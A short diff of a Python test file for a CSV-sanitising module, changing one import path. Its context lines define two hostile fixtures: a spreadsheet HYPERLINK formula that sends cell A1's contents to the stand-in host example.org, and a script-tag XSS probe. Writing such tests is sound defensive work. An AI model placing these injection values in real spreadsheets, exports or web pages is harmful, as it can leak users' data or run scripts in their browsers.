@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from boundtext.downloads import FORMULA_STARTS, csv_text
+from boundtext.safe_csv import FORMULA_STARTS, csv_text
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Elm Road Primary School")'
 MARKUP = "<script>alert(1)</script> Primary School"
